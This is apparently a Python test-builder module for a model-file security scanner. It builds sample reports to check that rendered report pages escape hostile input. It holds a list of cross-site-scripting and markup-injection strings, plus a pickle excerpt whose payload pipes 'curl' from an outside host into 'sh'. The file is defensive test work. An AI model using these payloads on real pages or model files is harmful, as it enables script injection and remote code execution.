"""Reports with all that a page shows, without a scan."""

from dataclasses import replace

from scanner.artifact import Location
from scanner.details import Changed, Details, Excerpt, FileMap, Origin, SignatureSeen, Span, WeightsSeen
from scanner.finding import Evidence
from scanner.report import Due, Report
from tests.builders import reports

HOSTILE = (
    "</script><script>window.broken=1</script>",
    "</style><img src=x onerror=window.broken=1>",
    '"><svg onload=window.broken=1>',
    "' autofocus onfocus=window.broken=1 x='",
    "</title></head><body onload=window.broken=1>",
    "<!--<script>",
    "javascript:window.broken=1//",
    "&lt;script&gt;&#60;b&#62;",
    "a\u202egpj.\u2066exe\u2069\u200b\x00\x1b[31m\r\n\udcff",
)
"""Texts that try to become markup, script, another attribute, or another order of letters."""


PICTURE = (
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" width="90" height="9"><rect width="9" height="9"/></svg>'
)


def excerpt(path, offset, content, *, line=None, mark=0, marked=1) -> Excerpt:  # noqa: PLR0913 - one argument a field
    """Quote bytes."""
    return Excerpt(
        path=path, offset=offset, line=line, start=offset or 0, shown=content.hex(), mark=mark, marked=marked
    )


def details(**changes) -> Details:
    """Details of nothing, but for what is given."""
    empty = Details(excerpts=(), maps=(), unmapped=0, signatures=(), origins=(), weights=())
    return replace(empty, **changes)


def due(state: str, duty: str, **changes) -> Due:
    """Owe something."""
    given = {
        "path": "README.md", "license": "LicenseRef-gemma", "words": "", "satisfied_by": "", "relation": "finetune",
        "parent": "google/gemma-2-9b", "clause": "3.1", "source": "https://ai.google.dev/gemma/terms",
    }  # fmt: skip
    return Due(state=state, duty=duty, **{**given, **changes})


def detailed() -> Report:
    """Return the failing report with bytes, maps, signatures, lineage, weights and obligations."""
    pickle = "models/model.pt!archive/data.pkl"
    shown = details(
        excerpts=(
            excerpt(pickle, 28, b"posix\nsystem\nX\x26\0\0\0curl -s http://192.0.2.7/x | sh\x85R.", mark=20, marked=6),
            excerpt("models/second.bin", 0, bytes(range(40)), marked=2),
            excerpt("config.p", 211, b"cfancy_layers.build\nBlock\n", marked=26),
        ),
        maps=(
            FileMap(
                path="models/model.pt",
                size=1_048_576,
                spans=(
                    Span(start=0, end=900, kind="member", name="archive/data.pkl", detail="stored"),
                    Span(start=900, end=1_040_000, kind="member", name="archive/data/0", detail="stored", count=4),
                    Span(start=1_040_000, end=1_047_000, kind="hidden", name="between", detail="elf"),
                    Span(start=1_047_000, end=1_048_576, kind="structure", name="", detail=""),
                ),
            ),
        ),
        unmapped=2,
        signatures=(
            SignatureSeen(path="model.sig", method="key", signer="9f86d081", predicate="https://model_signing/v1",
                          resources=7, mismatched=1),
        ),
        origins=(
            Origin(path="README.md", license="Apache-2.0", parent="google/gemma-2-9b", relation="finetune",
                   parent_license="LicenseRef-gemma", how="card", agrees=False),
        ),
        changed=(Changed(path="models/model.pt", base="google/gemma-2-9b", says="9 identical", picture=PICTURE),),
        weights=(
            WeightsSeen(path="models/model.pt", profile="fast", tensors=40, measured=30, nbytes=1_000_000,
                        read_nbytes=750_000),
        ),
    )  # fmt: skip
    dues = (
        due("met", "attribution", satisfied_by="NOTICE"),
        due("missing", "licence-copy"),
        due("open", "state-changes"),
    )
    return replace(reports.failing(), details=shown, obligations=dues)


def hostile(text: str) -> Report:
    """Put a text wherever an artifact, a policy or a licence has its say."""
    place = f"{text}!{text}"
    found = reports.finding(text or "r", place, text, title=text, offsets=(0, 9), waived="")
    lined = replace(
        found, evidence=(Evidence(where=Location(path=place, line=3, pointer=text), says=text),), severity="info"
    )
    waived = replace(found, waived=text, rule="other")
    raw = text.encode("utf-8", "surrogatepass")[:240]
    shown = details(
        excerpts=(excerpt(place, 0, raw, marked=4), excerpt(place, 9, b"\0" + raw), excerpt(place, None, raw, line=3)),
        maps=(FileMap(path=text, size=90, spans=(
            Span(start=0, end=40, kind="member", name=text, detail=text),
            Span(start=40, end=90, kind="hidden", name=text, detail=text),
        )),),
        signatures=(SignatureSeen(path=text, method=text, signer=text, predicate=text, resources=1, mismatched=1),),
        origins=(Origin(path=text, license=text, parent=text, relation=text, parent_license=text, how=text,
                        agrees=False),),
        changed=(Changed(path=text, base=text, says=text, picture=text[:500]),),
        weights=(WeightsSeen(path=text, profile=text, tensors=1, measured=1, nbytes=2, read_nbytes=1),),
    )  # fmt: skip
    made = reports.report(
        "fail", (found, lined, waived), (reports.examined(text, text, complete=False),),
        obligations=(due(text, text, words=text, source=text, clause=text, parent=text, license=text, path=text),),
    )  # fmt: skip
    named = replace(made.policy, name=text)
    rules = tuple(
        replace(rule, why=text, fix=text, references=(text, f"https://example.com/{text}")) for rule in made.rules
    )
    return replace(made, details=shown, policy=named, rules=rules)
